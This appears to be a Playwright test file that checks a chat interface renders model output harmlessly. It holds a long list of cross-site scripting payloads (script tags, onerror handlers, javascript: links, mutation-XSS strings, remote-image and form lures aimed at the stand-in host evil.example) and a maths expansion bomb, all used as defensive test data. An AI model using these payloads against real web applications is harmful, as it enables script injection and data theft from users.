"""Model output is data: whatever it prints, nothing runs, nothing is fetched, no policy is even tried."""

from __future__ import annotations

import json

import pytest

pytest.importorskip("playwright.sync_api")

from playwright.sync_api import expect

from .hands import answers, ask, import_file
from .mock import Reply

ATTACKS = {
    "script": "<script>window.attacked=1</script>",
    "script in a paragraph": "text <script>window.attacked=1</script> text",
    "script source": '<script src="https://evil.example/x.js"></script>',
    "onerror": "<img src=x onerror=window.attacked=1>",
    "onerror in a paragraph": 'look: <img src=x onerror="window.attacked=1"> there',
    "onload": "<svg onload=window.attacked=1>",
    "svg script": "<svg><script>window.attacked=1</script></svg>",
    "javascript link": "[click](javascript:window.attacked=1)",
    "javascript link, hidden": "[click](&#106;avascript&colon;window.attacked=1)",
    "javascript link, spaced": "[click](<java\tscript:window.attacked=1>)",
    "javascript link in html": '<a href="javascript:window.attacked=1">click</a>',
    "vbscript link": "[click](vbscript:msgbox)",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==)",
    "autolink": "<javascript:window.attacked=1>",
    "form": '<form action="https://evil.example/"><input name=q><button>Send</button></form>',
    "inline form": 'a <form action="https://evil.example/"><input type="text"><button>Go</button></form> b',
    "style": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "style attribute": '<p style="background:url(https://evil.example/x.png);position:fixed;inset:0">x</p>',
    "inline style": 'a <b style="position:fixed;inset:0">x</b> b',
    "link element": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
    "object": '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "remote image": "![secret](https://evil.example/pixel.png?q=secret)",
    "remote image in html": '<img src="https://evil.example/pixel.png">',
    "protocol-relative image": "![x](//evil.example/x.png)",
    "image with onerror title": '![x](x.png "a\\" onerror=\\"window.attacked=1")',
    "svg image": '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImF0dGFja2VkPTEiLz4=)',
    "video": '<video src="https://evil.example/x.mp4" autoplay></video><audio src=//evil.example/a onerror=attacked=1>',
    "mutation": '<math><mtext><table><mglyph><style><img src=x onerror="window.attacked=1">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.attacked=1>">',
    "template": "<template><img src=x onerror=window.attacked=1></template>",
    "details ontoggle": "<details open ontoggle=window.attacked=1>x</details>",
    "code language": '```"><img src=x onerror=window.attacked=1>\ncode\n```',
    "code text": "```html\n</code></pre><img src=x onerror=window.attacked=1>\n```",
    "inline code": "`<img src=x onerror=window.attacked=1>`",
    "table": "| <img src=x onerror=window.attacked=1> | b |\n|---|---|\n| <script>window.attacked=1</script> | d |",
    "heading": "# <img src=x onerror=window.attacked=1>",
    "maths link": "$\\href{javascript:window.attacked=1}{click}$ and $\\url{javascript:window.attacked=1}$",
    "maths html": "$\\htmlData{x=<img src=x onerror=window.attacked=1>}{a}$ $\\htmlStyle{position:fixed}{a}$",
    "maths image": "$\\includegraphics{https://evil.example/x.png}$",
    "maths text": "$\\text{<img src=x onerror=window.attacked=1>}$",
    "maths bomb": "$\\def\\a{xxxxxxxxxx}\\def\\b{" + "\\a" * 10 + "}\\def\\c{" + "\\b" * 10 + "}\\c\\c\\c$",
    "maths colours": "$\\color{red}{x} \\fbox{y} \\colorbox{red}{z} \\fcolorbox{red}{blue}{z} \\boldsymbol{b}$",
    "clobbering": '<img name="body" id="page"><a id="composer">x</a><div id="page" class="modal">y</div>',
    "classes": '<b class="modal offscreen toast">x</b>',
    "entities": "&lt;img src=x onerror=window.attacked=1&gt; &#60;script&#62;window.attacked=1&#60;/script&#62;",
    "reference": "[x][1]\n\n[1]: javascript:window.attacked=1",
    "nested": "> - <img src=x onerror=window.attacked=1>\n>   1. [a](javascript:window.attacked=1)",
    "unclosed": "<div><b><img src=x onerror=window.attacked=1 ",
    "null": "<scr\0ipt>window.attacked=1</scr\0ipt>",
}


def check_harmless(page):
    """Nothing that could act is in the answers; links lead to the web only; every link is clicked without effect."""
    found = page.evaluate("""() => {
        const bad = [];
        const forbidden = "script style link iframe object embed form meta base video audio template textarea select";
        const names = forbidden.split(" ");
        for (const answer of document.querySelectorAll(".answered .markdown")) {
            for (const element of answer.querySelectorAll("*")) {
                const name = element.localName;
                if (names.includes(name)) bad.push(element.outerHTML);
                if (name === "input" && (element.type !== "checkbox" || !element.disabled)) bad.push(element.outerHTML);
                if (name === "button" && !element.closest(".code-bar")) bad.push(element.outerHTML);
                if (name === "img" && !/^data:image\\/(png|jpeg);/.test(element.src)) bad.push(element.outerHTML);
                if (element.id) bad.push(element.outerHTML);
                for (const { name, value } of element.attributes) {
                    if (name.startsWith("on")) bad.push(element.outerHTML);
                    if (name === "href" && !/^(https?:|mailto:|#)/.test(value)) bad.push(element.outerHTML);
                    if (name === "style" && !element.closest(".katex")) bad.push(element.outerHTML);
                    if (name === "class" && /modal|toast|composer/.test(value)) bad.push(element.outerHTML);
                }
            }
            for (const link of answer.querySelectorAll("a:not([href^=http])")) link.click();
        }
        return bad;
    }""")
    assert found == []
    expect(page.locator("#composer")).to_be_visible()


def test_attacks_do_nothing_while_streaming_and_after_a_reload(page, mock):
    """Several a turn; the fixture looks for requests, violations and what would have run."""
    attacks = list(ATTACKS.values())
    for at in range(0, len(attacks), 10):
        mock.reply = Reply("\n\n".join(attacks[at : at + 10]), size=3, rate=1500)
        ask(page, f"attacks from {at}")
    page.wait_for_timeout(300)
    check_harmless(page)
    page.reload()
    for answer in answers(page).all():
        answer.scroll_into_view_if_needed()
        expect(answer.locator(".markdown")).not_to_have_class("markdown unready")
    page.wait_for_timeout(300)
    check_harmless(page)


def test_html_is_shown_as_text_rather_than_lost(page, mock):
    mock.reply = Reply("Write <script>alert(1)</script> at the end, and <b>not</b> at the start.")
    text = ask(page, "how do I run a script?")
    expect(text).to_have_text("Write <script>alert(1)</script> at the end, and not at the start.")
    mock.reply = Reply("![a cat](https://evil.example/cat.png)")
    expect(ask(page, "a picture")).to_contain_text("Image not loaded: a cat (https://evil.example/cat.png)")


@pytest.mark.parametrize("place", ["reasoning", "title", "tool", "error", "model", "file"])
def test_other_places_that_show_foreign_text(page, mock, place, context):
    attack = "<img src=x onerror=window.attacked=1><script>window.attacked=1</script>"
    if place == "reasoning":
        mock.reply = Reply("ok", reasoning=attack)
    elif place == "tool":
        mock.reply = Reply("ok", tools=[{"id": attack, "name": attack, "arguments": attack}])
    elif place == "error":
        mock.reply = Reply(error=(400, {"code": 400, "message": attack, "type": "invalid_request_error"}))
    elif place == "file":
        page.locator('input[data-for="attach"]').set_input_files(
            {"name": attack, "mimeType": "text/plain", "buffer": attack.encode()})
        expect(page.locator(".chip")).to_be_visible()
    page.locator("#composer").fill(attack if place == "title" else "go")
    page.locator("#composer").press("Enter")
    expect(answers(page).last.locator(".tools, .failure").first).to_be_visible()
    page.wait_for_timeout(200)
    assert page.evaluate("document.querySelectorAll('img[src=x], script:not([src])').length") == 0


def test_an_imported_chat_is_as_harmless(page, mock):
    messages = []
    for number, text in enumerate(ATTACKS.values()):
        messages.append({"id": f"m{number}", "parent": f"m{number - 1}" if number else None, "role": "assistant",
                         "text": text, "created": number, "status": "done", "reasoning": text})
    chat = {"id": '"><img src=x onerror=window.attacked=1>', "title": ATTACKS["onerror"], "created": 1, "updated": 1,
            "leaf": messages[-1]["id"], "messages": messages, "system": None}
    data = json.dumps({"format": "llamafile-chats", "version": 1, "chats": [chat]})
    import_file(page, {"name": "evil.json", "mimeType": "application/json", "buffer": data.encode()})
    page.locator(".row a").click()  # here each attack is a message of its own
    expect(answers(page)).to_have_count(len(ATTACKS))
    for answer in answers(page).all():
        answer.scroll_into_view_if_needed()
    page.wait_for_timeout(400)
    check_harmless(page)


def test_the_policy_itself_refuses_what_would_get_past_the_sanitiser(browser, mock):
    """The second wall, tried by putting the attacks into the page directly."""
    from .conftest import Context

    context = Context(browser, mock.address)
    page = context.page()
    page.evaluate("""async () => {
        const put = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
        const tries = [
            () => put("script", { textContent: "window.attacked=1" }),
            () => { document.body.innerHTML += "<img src=x onerror='window.attacked=1'>"; },
            () => put("img", { src: "https://evil.example/x.png" }),
            () => put("iframe", { src: "https://evil.example/" }),
            () => { setTimeout(() => eval("window.attacked=1")); }, // later: the debugger may use eval, the page not
        ];
        for (const attempt of tries) { try { attempt(); } catch {} }
        try { await fetch("https://evil.example/"); } catch {}
        await new Promise((done) => setTimeout(done, 300));
    }""")
    assert page.evaluate("window.attacked") == 0
    assert len(page.evaluate("window.violations")) >= 5
    assert not context.elsewhere
    context.context.close()
